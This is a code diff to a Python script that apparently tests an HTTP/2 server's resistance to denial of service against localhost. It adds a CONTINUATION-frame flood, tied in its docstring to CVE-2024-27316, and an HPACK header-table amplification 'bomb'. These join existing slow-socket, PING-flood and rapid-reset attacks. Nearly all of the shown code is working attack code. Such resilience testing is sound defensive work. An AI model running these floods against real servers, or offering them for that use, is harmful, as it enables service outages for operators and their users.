@@ -16,14 +16,15 @@ import sys
 import time
 from collections import Counter
 from collections.abc import Iterator
+from itertools import chain
 
 HOST = "127.0.0.1"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
 END_HEADERS, ACK = 4, 1
 CANCEL = 8
 SLOW, IDLE = 1_800, 200  # sockets that say nothing or half a hello; that shake hands and stop
-PINGS, RESETS = 20_000, 5_000
+PINGS, RESETS, PIECES = 20_000, 5_000, 200_000
 WAIT_S = 45.0
 
 
@@ -115,6 +116,30 @@ def resets(port: int) -> dict[str, object]:
     return flood(port, pieces)
 
 
+def continuations(port: int) -> dict[str, object]:
+    """CVE-2024-27316 and its kin: one head that never ends, in pieces that hold a field or none."""
+    field = b"\x00\x01a\x01b"
+    begun = headers(1)
+    begun = begun[:4] + bytes((begun[4] & ~END_HEADERS,)) + begun[5:]
+    pieces = (
+        frame(CONTINUATION, 0, 1, field * (number % 2)) * 20 for number in range(PIECES // 20)
+    )
+    return flood(port, chain((begun,), pieces))
+
+
+def bombs(port: int) -> dict[str, object]:
+    """HPACK: one large field in the table, and then a byte for each repetition of it."""
+    value = b"x" * 4_000
+    stored = b"\x40\x01a" + b"\x7f" + bytes((len(value) - 127 & 127 | 128, len(value) - 127 >> 7))
+    heads = (
+        frame(
+            HEADERS, END_HEADERS, stream, (stored + value if stream == 1 else b"") + b"\xbe" * 8_000
+        )
+        for stream in range(1, 401, 2)
+    )
+    return flood(port, heads)
+
+
 def slow(port: int) -> dict[str, object]:
     """Sockets that keep a place and say nothing, until the server has closed them all."""
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
@@ -166,7 +191,13 @@ def is_closed(line: socket.socket) -> bool:
     return True
 
 
-ATTACKS = {"slow": slow, "pings": pings, "resets": resets}
+ATTACKS = {
+    "slow": slow,
+    "pings": pings,
+    "resets": resets,
+    "continuations": continuations,
+    "bombs": bombs,
+}
 
 if __name__ == "__main__":
     print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]))))
